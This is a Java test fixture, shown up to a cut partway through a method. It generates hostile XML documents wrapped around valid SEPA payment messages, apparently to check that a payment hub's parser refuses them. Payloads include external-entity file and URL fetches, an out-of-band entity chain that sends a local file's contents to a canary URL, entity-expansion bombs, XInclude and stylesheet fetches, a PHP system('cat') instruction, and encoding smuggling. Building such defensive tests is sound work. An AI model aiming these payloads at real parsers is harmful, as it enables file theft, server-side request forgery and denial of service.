package org.girohub.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Documents that attack whoever reads them: by what they make a parser fetch, by what they make it hold, by passing for
 * something else. Every one is built on a payment that is valid and accepted without the attack. The same list at every call.
 */
public final class HostileXml {
    /** What must become of a document. */
    public enum Expected {
        /** It is not taken: an error says why, and nothing is sent anywhere. */
        REFUSED,
        /** What it adds means nothing to us: it is treated as the payment without it. */
        HARMLESS,
        /** Either, so long as nothing is fetched and it ends in an outcome. */
        SETTLED
    }

    /**
     * Where documents point: nothing may ever read the file or connect to the port.
     *
     * @param file holds a text that must appear nowhere
     * @param port of a server on this machine
     */
    public record Canary(Path file, int port) {
        String fileUrl() {
            return file.toUri().toString();
        }

        String httpUrl() {
            return "http://127.0.0.1:" + port + "/evil";
        }
    }

    /** One document; names are distinct and good as file names. */
    @SuppressWarnings("ArrayRecordComponent") // equality is never asked
    public record Document(String name, String family, Expected expected, byte[] content) {}

    private static final String DECLARATION = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
    private static final String XSI = " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"";
    private static final String XI = " xmlns:xi=\"http://www.w3.org/2001/XInclude\"";
    private static final int MEGA = 1_000_000;

    /** Above the numbers of payments, whose UETRs are made of theirs. */
    private static final int MTS = 50_000_000;

    private static final String HEADER = "<AppHdr"
            + " xmlns=\"urn:iso:std:iso:20022:tech:xsd:head.001.001.02\"><Fr><FIId><FinInstnId><BICFI>"
            + "GIROFRPPXXX</BICFI></FinInstnId></FIId></Fr><To><FIId><FinInstnId><BICFI>BANKDEFFXXX</BICFI></FinInstnId>"
            + "</FIId></To><BizMsgIdr>HOSTILE</BizMsgIdr><MsgDefIdr>pacs.008.001.08</MsgDefIdr>"
            + "<CreDt>2026-11-20T09:30:00Z</CreDt></AppHdr>";
    private static final String SUPPLEMENT = supplementary("<a xmlns=\"urn:a\"><b>7</b></a>");

    private final Canary canary;
    private final int first;
    private final List<Document> documents = new ArrayList<>();
    private final Set<String> names = new HashSet<>();
    private String family = "";

    private HostileXml(Canary canary, int first) {
        this.canary = canary;
        this.first = first;
    }

    /**
     * All documents.
     *
     * @param first number of the first payment; lists of different numbers, a thousand apart, have no payment in common
     */
    public static List<Document> all(Canary canary, int first) {
        HostileXml made = new HostileXml(canary, first);
        made.doctypes();
        made.entities();
        made.expansions();
        made.schemas();
        made.inclusions();
        made.instructions();
        made.encodings();
        made.versions();
        made.dimensions();
        made.texts();
        made.envelopes();
        made.disguises();
        return List.copyOf(made.documents);
    }

    /** A SEPA credit transfer that every inlet accepts, without XML declaration. */
    public static String payment(int number) {
        return payment(number, 1);
    }

    /**
     * A valid input of the bytes of another one and of its kind: MTs for what begins with an MT, payments for all else, in
     * UTF-16 if that is, with a business application header or with supplementary data if that has any. The size is reached by the number of transactions, then by addresses, then by remittance text;
     * nothing is smaller than the smallest payment. Letters beyond Latin are in it if they are in the other, since they make
     * all of a text take two bytes a character, whoever sends them.
     */
    public static byte[] validLike(byte[] input) {
        return validLike(input, 1);
    }

    /** The same under a number of its own, so that a hub takes it for no duplicate of another. */
    public static byte[] validLike(byte[] input, int number) {
        Charset wide = input.length < 4
                ? null
                : input[1] == 0 && input[3] == 0 && input[2] != 0
                        ? StandardCharsets.UTF_16LE
                        : input[0] == 0 && input[2] == 0 && input[3] != 0 ? StandardCharsets.UTF_16BE : null;
        if (wide != null) {
            return validPayment(number, input.length / 2, false).getBytes(wide);
        }
        String ascii = new String(input, 0, Math.min(input.length, 3_000), StandardCharsets.ISO_8859_1);
        String header = ascii.contains("<AppHdr") && ascii.contains("<Document")
                ? HEADER.replace("HOSTILE", String.format(Locale.ROOT, "H%06d", number))
                : "";
        String around = header.isEmpty() ? "" : "<BizMsgEnvlp>";
        String end = header.isEmpty() ? "" : "</BizMsgEnvlp>";
        boolean data = ascii.contains("<SplmtryData>");
        int added = data ? SUPPLEMENT.length() : 0;
        boolean latin = new String(input, StandardCharsets.UTF_8).chars().allMatch(c -> c < 256);
        if (ascii.startsWith("{1:")) {
            return validMts(input, number);
        }
        int left = input.length - around.length() - header.length() - end.length() - added;
        boolean declared = ascii.startsWith(DECLARATION)
                && left >= DECLARATION.length() + payment(number, 1).length();
        String declaration = declared ? DECLARATION : "";
        String valid = validPayment(number, left - declaration.length(), !latin);
        if (data) {
            valid = valid.replaceFirst("</CdtTrfTxInf>", SUPPLEMENT + "$0");
        }
        return (declaration + around + header + valid + end).getBytes(StandardCharsets.UTF_8);
    }

    private static String validPayment(int number, int bytes, boolean beyondLatin) {
        String smallest = payment(number, 1);
        int transaction = payment(number, 2).length() - smallest.length();
        int transactions = 1 + Math.max(0, bytes - smallest.length()) / transaction;
        String valid = payment(number, transactions);
        while (valid.length() > bytes && transactions > 1) {
            // their numbers have more digits
            transactions -= Math.max(1, (valid.length() - bytes) / (2 * transaction));
            valid = payment(number, transactions);
        }
        if (beyondLatin) {
            valid = valid.replaceFirst("Ben Beispiel", "\u0411\u043E\u0440\u0438\u0441 BB");
        }
        int missing = bytes - valid.length() - (beyondLatin ? 5 : 0);
        String address = "<PstlAdr><StrtNm>Hauptweg</StrtNm><BldgNb>7</BldgNb><PstCd>10115</PstCd><TwnNm>Berlin</TwnNm>"
                + "<Ctry>DE</Ctry></PstlAdr>";
        for (String name : new String[] {"Ada Example</Nm>", beyondLatin ? " BB</Nm>" : "Ben Beispiel</Nm>"}) {
            int at = valid.lastIndexOf(name) + name.length();
            if (missing >= address.length()) {
                valid = valid.substring(0, at) + address + valid.substring(at);
                missing -= address.length();
            }
        }
        StringBuilder text = new StringBuilder();
        int most = 140;
        int tags = "<Ustrd></Ustrd>".length();
        while (missing > tags) {
            int length = Math.min(most, missing - tags);
            text.append("<Ustrd>").append("x".repeat(length)).append("</Ustrd>");
            missing -= tags + length;
        }
        int at = valid.lastIndexOf("</RmtInf>");
        return valid.substring(0, at) + text + valid.substring(at) + " ".repeat(Math.max(0, missing));
    }

    /** A valid MT of the bytes of the MT that an input begins with, and a valid input like the rest of it. */
    private static byte[] validMts(byte[] input, int number) {
        String text = new String(input, StandardCharsets.ISO_8859_1);
        int end = text.indexOf("-}") < 0 ? text.length() : text.indexOf("-}") + 2;
        int rest = end;
        while (rest < text.length() && "\r\n$".indexOf(text.charAt(rest)) >= 0) {
            rest++;
        }
        String mt = String.join(
                "\r\n",
                "{1:F01GIROFRPPAXXX0000000000}{2:I103MTBKUS33XXXXN}{3:{119:REMIT}"
                        + String.format(Locale.ROOT, "{121:%08d-0000-4000-8000-000000000000}}{4:", MTS + number),
                ":20:" + String.format(Locale.ROOT, "H%06d", number),
                ":23B:CRED",
                ":32A:261123EUR12,50",
                ":33B:EUR12,50",
                ":50K:/FR7630006000011234567890189",
                "ADA EXAMPLE",
                ":59:/DE89370400440532013000",
                "BEN BEISPIEL",
                ":71A:SHA",
                ":77T:%s",
                "-}");
        String line = "UNH+INVOICE 7+OF ALL THAT WAS BOUGHT+IN NOVEMBER+AND IS PAID BY THIS\r\n";
        String remittance = line.repeat(1 + end / line.length()).substring(0, Math.max(1, end - mt.length() + 2));
        String valid = String.format(
                mt,
                remittance.stripTrailing()
                        + "X"
                                .repeat(remittance.length()
                                        - remittance.stripTrailing().length()));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(valid.getBytes(StandardCharsets.ISO_8859_1));
        out.write(input, end, rest - end);
        if (rest < input.length) {
            out.writeBytes(validLike(Arrays.copyOfRange(input, rest, input.length), number));
        }
        return out.toByteArray();
    }

    private static String payment(int number, int transactions) {
        StringBuilder out = new StringBuilder("""
            <Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"><FIToFICstmrCdtTrf>
            <GrpHdr><MsgId>HOSTILE-%1$d</MsgId><CreDtTm>2026-11-20T09:30:00Z</CreDtTm><NbOfTxs>%2$d</NbOfTxs>
            <SttlmInf><SttlmMtd>CLRG</SttlmMtd></SttlmInf>
            <InstgAgt><FinInstnId><BICFI>GIROFRPPXXX</BICFI></FinInstnId></InstgAgt>
            <InstdAgt><FinInstnId><BICFI>BANKDEFFXXX</BICFI></FinInstnId></InstdAgt></GrpHdr>
            """.formatted(number, transactions));
        for (int i = 0; i < transactions; i++) {
            out.append("""
                <CdtTrfTxInf><PmtId><InstrId>I-%1$d-%2$d</InstrId><EndToEndId>E-%1$d-%2$d</EndToEndId>
                <TxId>T-%1$d-%2$d</TxId><UETR>%3$s</UETR></PmtId><PmtTpInf><SvcLvl><Cd>SEPA</Cd></SvcLvl></PmtTpInf>
                <IntrBkSttlmAmt Ccy="EUR">%4$d.50</IntrBkSttlmAmt><IntrBkSttlmDt>2026-11-23</IntrBkSttlmDt>
                <ChrgBr>SLEV</ChrgBr><Dbtr><Nm>Ada Example</Nm></Dbtr>
                <DbtrAcct><Id><IBAN>FR7630006000011234567890189</IBAN></Id></DbtrAcct>
                <DbtrAgt><FinInstnId><BICFI>GIROFRPPXXX</BICFI></FinInstnId></DbtrAgt>
                <CdtrAgt><FinInstnId><BICFI>BANKDEFFXXX</BICFI></FinInstnId></CdtrAgt><Cdtr><Nm>Ben Beispiel</Nm></Cdtr>
                <CdtrAcct><Id><IBAN>DE89370400440532013000</IBAN></Id></CdtrAcct>
                <RmtInf><Ustrd>Invoice 7</Ustrd></RmtInf></CdtTrfTxInf>
                """.formatted(
                            number, i, String.format(Locale.ROOT, "%08d-0000-4000-8000-%012d", number, i), 12 + i));
        }
        return out.append("</FIToFICstmrCdtTrf></Document>\n").toString();
    }

    // ---- how documents are made -----------------------------------------------------------------------------------

    /** The payment of the next document, without XML declaration. */
    private String next() {
        return payment(first + documents.size());
    }

    private void add(String name, Expected expected, byte[] content) {
        String whole = family + "-" + name;
        if (!names.add(whole)) {
            throw new IllegalStateException("two documents are called " + whole);
        }
        documents.add(new Document(whole, family, expected, content));
    }

    private void add(String name, Expected expected, String content) {
        add(name, expected, content.getBytes(StandardCharsets.UTF_8));
    }

    private void refused(String name, String content) {
        add(name, Expected.REFUSED, content);
    }

    /** The payment with something in the place of its remittance text. */
    private void inText(String name, String prolog, String text) {
        refused(name, DECLARATION + prolog + next().replace("Invoice 7", text));
    }

    /** The payment with something behind its last transaction's remittance information. */
    private void inElement(String name, Expected expected, String element) {
        add(name, expected, DECLARATION + next().replace("</RmtInf>", "</RmtInf>" + element));
    }

    /** The payment with attributes on its root. */
    private void onRoot(String name, Expected expected, String attributes) {
        add(name, expected, DECLARATION + next().replaceFirst("<Document", "<Document" + attributes));
    }

    private static String supplementary(String content) {
        return "<SplmtryData><Envlp>" + content + "</Envlp></SplmtryData>";
    }

    // ---- families -------------------------------------------------------------------------------------------------

    private void doctypes() {
        family = "doctype";
        String[][] prologs = {
            {"bare", ""},
            {"declared", DECLARATION},
            {"comment", DECLARATION + "<!-- a > comment <Document> -->"},
            {"instruction", DECLARATION + "<?note <!DOCTYPE x> ?>"},
            {"blanks", DECLARATION + "\n\t \r\n".repeat(300)},
            {"mark", "\uFEFF" + DECLARATION},
            {"long", DECLARATION + "<!--" + "x".repeat(20_000) + "-->"}
        };
        String[][] types = {
            {"empty", "<!DOCTYPE Document>"},
            {"subset", "<!DOCTYPE Document [ <!ELEMENT Document ANY> ]>"},
            {"file", "<!DOCTYPE Document SYSTEM \"" + canary.fileUrl() + "\">"},
            {"http", "<!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + ".dtd\">"},
            {"public", "<!DOCTYPE Document PUBLIC \"-//E//E\" \"" + canary.httpUrl() + ".dtd\">"},
            {"lines", "<!DOCTYPE\n\nDocument\n[\n<!ENTITY a SYSTEM '" + canary.fileUrl() + "'>\n]\n>"},
            {"lower", "<!doctype Document SYSTEM \"" + canary.httpUrl() + "\">"},
            {"quoted", "<!DOCTYPE Document [ <!ENTITY a \"]>\"> <!-- ]> --> ]>"}
        };
        for (String[] prolog : prologs) {
            for (String[] type : types) {
                refused(prolog[0] + "-" + type[0], prolog[1] + type[1] + next());
            }
        }
        refused("unclosed", DECLARATION + "<!DOCTYPE Document [" + next());
        refused("twice", DECLARATION + "<!DOCTYPE Document><!DOCTYPE Document>" + next());
        refused("behind", DECLARATION + next() + "<!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">");
        inElement("within", Expected.REFUSED, "<!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">");
        refused("in-root", DECLARATION + next().replace("<FIToFICstmrCdtTrf>", "<!DOCTYPE a><FIToFICstmrCdtTrf>"));
        refused(
                "many-declarations",
                DECLARATION + "<!DOCTYPE Document [" + "<!ELEMENT a ANY>".repeat(50_000) + "]>" + next());
        refused("nested-brackets", DECLARATION + "<!DOCTYPE Document " + "[".repeat(100_000) + next());
    }

    private void entities() {
        family = "entity";
        for (String protocol : new String[] {"http", "https", "ftp", "jar:http", "netdoc", "gopher", "ldap", "php"}) {
            String url =
                    protocol + "://127.0.0.1:" + canary.port() + "/evil" + (protocol.startsWith("jar") ? "!/a" : "");
            inText(protocol.replace(':', '-'), "<!DOCTYPE Document [<!ENTITY x SYSTEM \"" + url + "\">]>", "&x;");
            inText(
                    protocol.replace(':', '-') + "-parameter",
                    "<!DOCTYPE Document [<!ENTITY % x SYSTEM \"" + url + "\"> %x;]>",
                    "Invoice 7");
        }
        String external = "<!ENTITY x SYSTEM \"" + canary.fileUrl() + "\">";
        inText("internal", "<!DOCTYPE Document [<!ENTITY x \"Invoice 8\">]>", "&x;");
        inText("file", "<!DOCTYPE Document [" + external + "]>", "&x;");
        inText("file-plain-path", "<!DOCTYPE Document [<!ENTITY x SYSTEM \"" + canary.file() + "\">]>", "&x;");
        inText("file-unused", "<!DOCTYPE Document [" + external + "]>", "Invoice 7");
        inText("public", "<!DOCTYPE Document [<!ENTITY x PUBLIC \"a\" \"" + canary.fileUrl() + "\">]>", "a &x; b");
        inText(
                "smuggled-out",
                "<!DOCTYPE Document [<!ENTITY % f SYSTEM \"" + canary.fileUrl()
                        + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '" + canary.httpUrl() + "?%f;'>\">%e;%s;]>",
                "Invoice 7");
        inText(
                "unparsed",
                "<!DOCTYPE Document [<!NOTATION n SYSTEM \"" + canary.httpUrl() + "\"><!ENTITY x SYSTEM \""
                        + canary.fileUrl() + "\" NDATA n>]>",
                "Invoice 7");
        inText("nested", "<!DOCTYPE Document [" + external + "<!ENTITY y \"&x;\">]>", "&y;");
        inText("loop", "<!DOCTYPE Document [<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">]>", "&x;");
        inText("itself", "<!DOCTYPE Document [<!ENTITY x \"&x;\">]>", "&x;");
        inText("redefined-lt", "<!DOCTYPE Document [<!ENTITY lt \"&#38;#60;Ustrd>\">]>", "&lt;");
        inText("markup", "<!DOCTYPE Document [<!ENTITY x \"</Ustrd><Ustrd>\">]>", "&x;");
        inText("undeclared", "", "&xxe;");
        inText("undeclared-html", "", "Caf&eacute;");
        inText("unfinished", "", "&amp");
        inText("null-reference", "", "&#0;");
        inText("control-reference", "", "&#x1F;");
        inText("surrogate-reference", "", "&#xD800;");
        inText("noncharacter-reference", "", "&#xFFFE;");
        inText("beyond-unicode-reference", "", "&#x110000;");
        inText("endless-reference", "", "&#" + "1".repeat(100_000) + ";");
        refused(
                "in-attribute",
                DECLARATION + "<!DOCTYPE Document [<!ENTITY x \"EUR\">]>"
                        + next().replace("Ccy=\"EUR\"", "Ccy=\"&x;\""));
        refused("in-attribute-undeclared", DECLARATION + next().replace("Ccy=\"EUR\"", "Ccy=\"&x;\""));
        refused(
                "in-namespace",
                DECLARATION + "<!DOCTYPE Document [" + external + "]>" + next().replace("xmlns=\"", "xmlns=\"&x;"));
        refused(
                "default-attribute",
                DECLARATION
                        + "<!DOCTYPE Document [<!ATTLIST IntrBkSttlmAmt Ccy CDATA \"USD\">]>"
                        + next().replace(" Ccy=\"EUR\"", ""));
    }

    private void expansions() {
        family = "expansion";
        for (int depth : new int[] {2, 5, 10, 20, 100}) {
            StringBuilder bomb = new StringBuilder("<!DOCTYPE Document [<!ENTITY l0 \"lol\">");
            for (int i = 1; i < depth; i++) {
                bomb.append("<!ENTITY l" + i + " \"" + ("&l" + (i - 1) + ";").repeat(10) + "\">");
            }
            inText("laughs-" + depth, bomb + "]>", "&l" + (depth - 1) + ";");
        }
        for (int size : new int[] {1_000, 50_000}) {
            inText(
                    "quadratic-" + size,
                    "<!DOCTYPE Document [<!ENTITY q \"" + "q".repeat(size) + "\">]>",
                    "&q;".repeat(size / 3));
        }
        inText(
                "parameter-laughs",
                "<!DOCTYPE Document [<!ENTITY % a \"<!ENTITY b 'x'>\"><!ENTITY % c \"%a;%a;%a;\">"
                        + "%c;".repeat(10_000) + "]>",
                "&b;");
        refused(
                "laughs-in-attribute",
                DECLARATION
                        + "<!DOCTYPE Document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"" + "&a;".repeat(1_000)
                        + "\">]>" + next().replace("Ccy=\"EUR\"", "Ccy=\"" + "&b;".repeat(1_000) + "\""));
        inText("without-doctype", "", "&l9;".repeat(100_000));
        inText(
                "many-entities",
                "<!DOCTYPE Document [" + String.join("", numbered(20_000, "<!ENTITY e%d \"x\">")) + "]>",
                "&e1;");
    }

    private void schemas() {
        family = "schema";
        String xsd = canary.httpUrl() + ".xsd";
        String namespace = "urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08 ";
        onRoot("located-http", Expected.HARMLESS, XSI + " xsi:schemaLocation=\"" + namespace + xsd + "\"");
        onRoot("located-file", Expected.HARMLESS, XSI + " xsi:schemaLocation=\"" + namespace + canary.fileUrl() + "\"");
        onRoot(
                "located-relative",
                Expected.HARMLESS,
                XSI + " xsi:schemaLocation=\"" + namespace + "../../../evil.xsd\"");
        onRoot("no-namespace-http", Expected.HARMLESS, XSI + " xsi:noNamespaceSchemaLocation=\"" + xsd + "\"");
        onRoot(
                "no-namespace-file",
                Expected.HARMLESS,
                XSI + " xsi:noNamespaceSchemaLocation=\"" + canary.fileUrl() + "\"");
        onRoot("odd-count", Expected.SETTLED, XSI + " xsi:schemaLocation=\"" + xsd + "\"");
        onRoot(
                "many-locations",
                Expected.REFUSED,
                XSI + " xsi:schemaLocation=\"" + ("urn:a " + xsd + " ").repeat(10_000) + "\"");
        add(
                "located-inside",
                Expected.SETTLED,
                DECLARATION + next().replace("<Dbtr>", "<Dbtr" + XSI + " xsi:schemaLocation=\"urn:x " + xsd + "\">"));
        refused("claimed-type", DECLARATION + next().replace("<Dbtr>", "<Dbtr" + XSI + " xsi:type=\"CashAccount38\">"));
        refused(
                "claimed-foreign-type",
                DECLARATION
                        + next().replace("<Dbtr>", "<Dbtr" + XSI + " xmlns:e=\"" + xsd + "\" xsi:type=\"e:Evil\">"));
        refused(
                "claimed-nil",
                DECLARATION + next().replace("<Nm>Ben Beispiel</Nm>", "<Nm" + XSI + " xsi:nil=\"true\"/>"));
        inElement(
                "schema-as-data",
                Expected.SETTLED,
                supplementary("<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include schemaLocation=\""
                        + xsd + "\"/><xs:import namespace=\"urn:x\" schemaLocation=\"" + canary.fileUrl()
                        + "\"/></xs:schema>"));
        onRoot("base", Expected.REFUSED, " xml:base=\"" + canary.httpUrl() + "\"");
        refused(
                "as-root",
                DECLARATION
                        + "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include schemaLocation=\"" + xsd
                        + "\"/></xs:schema>");
    }

    private void inclusions() {
        family = "xinclude";
        String file = canary.fileUrl();
        inElement("text", Expected.REFUSED, "<xi:include" + XI + " href=\"" + file + "\" parse=\"text\"/>");
        inElement("xml", Expected.REFUSED, "<xi:include" + XI + " href=\"" + canary.httpUrl() + "\"/>");
        inText("in-leaf", "", "<xi:include" + XI + " href=\"" + file + "\" parse=\"text\"/>");
        inText(
                "fallback",
                "",
                "<xi:include" + XI + " href=\"" + file + "\"><xi:fallback><xi:include href=\"" + canary.httpUrl()
                        + "\"/></xi:fallback></xi:include>");
        inText("pointer", "", "<xi:include" + XI + " href=\"" + file + "\" xpointer=\"xpointer(/)\"/>");
        inElement(
                "prefix",
                Expected.REFUSED,
                "<a:include xmlns:a=\"http://www.w3.org/2001/XInclude\" href=\"" + file + "\" parse=\"text\"/>");
        inElement(
                "older-namespace",
                Expected.REFUSED,
                "<i:include xmlns:i=\"http://www.w3.org/2003/XInclude\" href=\"" + file + "\" parse=\"text\"/>");
        inElement(
                "in-supplementary-data",
                Expected.SETTLED,
                supplementary("<xi:include" + XI + " href=\"" + file + "\" parse=\"text\"/>"));
        refused("as-root", DECLARATION + "<xi:include" + XI + " href=\"" + file + "\"/>");
        refused("around", DECLARATION + "<xi:include" + XI + " href=\"" + file + "\">" + next() + "</xi:include>x<");
        inText("many", "", ("<xi:include" + XI + " href=\"" + file + "\"/>").repeat(5_000));
    }

    private void instructions() {
        family = "instruction";
        String[][] each = {
            {"stylesheet", "<?xml-stylesheet type=\"text/xsl\" href=\"" + canary.httpUrl() + ".xsl\"?>"},
            {"stylesheet-file", "<?xml-stylesheet type=\"text/xsl\" href=\"" + canary.fileUrl() + "\"?>"},
            {"css", "<?xml-stylesheet type=\"text/css\" href=\"" + canary.httpUrl() + ".css\"?>"},
            {"model", "<?xml-model href=\"" + canary.httpUrl() + ".rng\"?>"},
            {"catalog", "<?oasis-xml-catalog catalog=\"" + canary.httpUrl() + ".xml\"?>"},
            {"php", "<?php system('cat " + canary.file() + "'); ?>"},
            {"import", "<?import file=\"" + canary.file() + "\"?>"}
        };
        for (String[] one : each) {
            add(one[0], Expected.HARMLESS, DECLARATION + one[1] + next());
            inElement(one[0] + "-within", Expected.HARMLESS, one[1]);
        }
        add("many", Expected.HARMLESS, DECLARATION + "<?a?>".repeat(100_000) + next());
        add("huge", Expected.HARMLESS, DECLARATION + "<?a " + "x".repeat(MEGA) + "?>" + next());
        refused("declaration-within", DECLARATION + next().replace("<GrpHdr>", DECLARATION + "<GrpHdr>"));
        add("reserved-target", Expected.SETTLED, DECLARATION + "<?XML version=\"1.0\"?>" + next());
        refused("unclosed", DECLARATION + next().replace("<GrpHdr>", "<?a <GrpHdr>"));
        String xsl = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:include"
                + " href=\""
                + canary.httpUrl() + "\"/><xsl:template match=\"/\"><xsl:copy-of select=\"document('"
                + canary.fileUrl()
                + "')\"/></xsl:template></xsl:stylesheet>";
        refused("stylesheet-as-root", DECLARATION + xsl);
        inElement("stylesheet-as-data", Expected.SETTLED, supplementary(xsl));
    }

    private void encodings() {
        family = "encoding";
        String doctype = "<!DOCTYPE Document [<!ENTITY x SYSTEM \"" + canary.fileUrl() + "\">]>";
        Charset[] wide = {
            StandardCharsets.UTF_16LE,
            StandardCharsets.UTF_16BE,
            Charset.forName("UTF-32LE"),
            Charset.forName("UTF-32BE")
        };
        for (Charset charset : wide) {
            String lower = charset.name().toLowerCase(Locale.ROOT);
            String family16 = charset.name().substring(0, 6);
            boolean read = family16.equals("UTF-16");
            for (String mark : new String[] {"", "\uFEFF"}) {
                String name = lower + (mark.isEmpty() ? "" : "-marked");
                String declared = "<?xml version=\"1.0\" encoding=\"" + family16 + "\"?>";
                add(name, read ? Expected.HARMLESS : Expected.REFUSED, (mark + declared + next()).getBytes(charset));
                add(name + "-doctype", Expected.REFUSED, (mark + declared + doctype + next()).getBytes(charset));
                add(
                        name + "-said-to-be-utf-8",
                        read ? Expected.SETTLED : Expected.REFUSED,
                        (mark + DECLARATION + next()).getBytes(charset));
            }
        }
        for (String claimed : new String[] {
            "UTF-7", "UTF-16", "UTF-16LE", "UTF-32", "IBM037", "cp037", "EBCDIC-CP-US", "ISO-2022-KR", "ISO-2022-JP",
            "x-UTF-16LE-BOM", "CESU-8", "SCSU", "BOCU-1", "hz-gb-2312", "../../../etc/passwd", "", "utf-8\u0000", "%x;"
        }) {
            String declared = "<?xml version=\"1.0\" encoding=\"" + claimed + "\"?>";
            String name = "claims-" + (documents.size() - 1);
            add(name, Expected.SETTLED, declared + next());
            add(name + "-doctype", Expected.REFUSED, declared + doctype + next());
        }
        refused(
                "claims-a-megabyte",
                "<?xml version=\"1.0\" encoding=\"" + "u".repeat(MEGA) + "\"?>" + doctype + next());
        // +ADw- is < in UTF-7: text for whoever reads ASCII, a DOCTYPE for whoever believes the declaration.
        String seven = "<?xml version=\"1.0\" encoding=\"UTF-7\"?>";
        refused(
                "utf-7-doctype",
                seven + "+ADwAIQ-DOCTYPE Document SYSTEM +ACI-" + canary.httpUrl() + "+ACIAPg-" + next());
        refused(
                "utf-7-whole",
                "+ADw?xml version=+ACI-1.0+ACI?+AD4-"
                        + next().replace("<", "+ADw-").replace(">", "+AD4-"));
        refused("utf-7-marked", "+/v8-" + next().replace("<", "+ADw-"));
        Charset ebcdic = Charset.forName("IBM037");
        add("ebcdic", Expected.REFUSED, ("<?xml version=\"1.0\" encoding=\"IBM037\"?>" + next()).getBytes(ebcdic));
        add(
                "ebcdic-doctype",
                Expected.REFUSED,
                ("<?xml version=\"1.0\" encoding=\"IBM037\"?>" + doctype + next()).getBytes(ebcdic));
        Charset latin = StandardCharsets.ISO_8859_1;
        add(
                "latin-said-to-be-utf-8",
                Expected.SETTLED,
                (DECLARATION + next().replace("Beispiel", "M\u00FCller")).getBytes(latin));
        add(
                "utf-8-said-to-be-latin",
                Expected.SETTLED,
                DECLARATION.replace("UTF-8", "ISO-8859-1") + next().replace("Beispiel", "M\u00FCller"));
        bytes("overlong-less-than", "<!DOCTYPE", 0xC0, 0xBC);
        bytes("overlong-three", "<!DOCTYPE", 0xE0, 0x80, 0xBC);
        bytes("overlong-four", "<!DOCTYPE", 0xF0, 0x80, 0x80, 0xBC);
        bytes("overlong-null", "x", 0xC0, 0x80);
        bytes("surrogate-bytes", "x", 0xED, 0xA0, 0x80);
        bytes("surrogate-pair-bytes", "x", 0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80);
        bytes("beyond-unicode-bytes", "x", 0xF4, 0x90, 0x80, 0x80);
        bytes("five-byte-form", "x", 0xF8, 0x88, 0x80, 0x80, 0x80);
        bytes("lone-continuation", "x", 0x80);
        bytes("cut-character", "x", 0xE2, 0x82);
        bytes("mark-of-the-other-order", "x", 0xFF, 0xFE);
        add(
                "lone-surrogate-utf-16",
                Expected.REFUSED,
                ("\uFEFF<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + doctype
                                + next().replace("Invoice 7", "a\uD800b"))
                        .getBytes(StandardCharsets.UTF_16LE));
        inText("nul-in-text", "", "a\u0000b");
        refused("nul-in-tag", DECLARATION + next().replace("<ChrgBr>", "<Chrg\u0000Br>"));
        refused("nul-before-doctype", DECLARATION + "\u0000" + doctype + next());
        refused("nuls", DECLARATION + "\u0000".repeat(MEGA) + next());
        refused("controls", DECLARATION + next().replace("Invoice 7", "\u0001\u0002\u0003\u000B\u001F"));
        add("two-marks", Expected.SETTLED, "\uFEFF\uFEFF" + DECLARATION + next());
        inText("mark-within-doctype", "\uFEFF" + doctype, "Invoice 7");
        refused("backwards", DECLARATION + doctype + next().replace("Invoice 7", "\u202E7 eciovnI"));
    }

    /** The payment with a DOCTYPE, or a text, that contains bytes that are no UTF-8. */
    private void bytes(String name, String before, int... bad) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        boolean doctype = before.startsWith("<");
        String[] parts = doctype
                ? new String[] {DECLARATION, "!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">" + next()}
                : (DECLARATION + "<!DOCTYPE Document>" + next()).split("Invoice 7");
        out.writeBytes(parts[0].getBytes(StandardCharsets.UTF_8));
        for (int b : bad) {
            out.write(b);
        }
        out.writeBytes(parts[1].getBytes(StandardCharsets.UTF_8));
        // Bytes that are no UTF-8 are no "<" either: what follows them is text around the payment.
        add(name, doctype ? Expected.SETTLED : Expected.REFUSED, out.toByteArray());
        if (!doctype) {
            out.reset();
            String[] plain = (DECLARATION + next()).split("Invoice 7");
            out.writeBytes(plain[0].getBytes(StandardCharsets.UTF_8));
            for (int b : bad) {
                out.write(b);
            }
            out.writeBytes(plain[1].getBytes(StandardCharsets.UTF_8));
            add(name + "-in-text", Expected.SETTLED, out.toByteArray());
        }
    }

    private void versions() {
        family = "version";
        for (String version : new String[] {"1.1", "1.2", "2.0", "0.9", "", "1", "1.0.0", "9".repeat(50_000)}) {
            String name = version.length() > 9 ? "endless" : version.isEmpty() ? "none" : version;
            add(name, Expected.SETTLED, "<?xml version=\"" + version + "\"?>" + next());
        }
        add("1.1-control", Expected.REFUSED, "<?xml version=\"1.1\"?>" + next().replace("Invoice 7", "a&#x1;b"));
        add("1.1-null", Expected.REFUSED, "<?xml version=\"1.1\"?>" + next().replace("Invoice 7", "a&#0;b"));
        add("1.1-next-line", Expected.SETTLED, "<?xml version=\"1.1\"?>" + next().replace("\n", "\u0085"));
        add("1.1-line-separator", Expected.SETTLED, "<?xml version=\"1.1\"?>" + next().replace("\n", "\u2028"));
        add("1.1-doctype", Expected.REFUSED, "<?xml version=\"1.1\"?><!DOCTYPE Document>" + next());
        add("standalone", Expected.HARMLESS, "<?xml version=\"1.0\" standalone=\"yes\"?>" + next());
        add(
                "standalone-doctype",
                Expected.REFUSED,
                "<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">"
                        + next());
